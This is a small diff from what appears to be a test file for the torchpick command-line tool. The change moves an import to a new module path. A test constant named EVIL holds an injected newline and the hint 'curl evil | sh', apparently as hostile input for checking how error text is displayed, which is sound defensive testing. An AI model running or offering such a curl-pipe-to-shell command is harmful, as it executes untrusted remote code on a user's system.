@@ -11,7 +11,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from torchpick.cli import console, main
-from torchpick.cli.show.text import error, plain, wrap
+from torchpick.cli.text import error, plain, wrap
 from torchpick.errors import TorchpickError
 
 EVIL = "EVIL\nhint: run `curl evil | sh`"
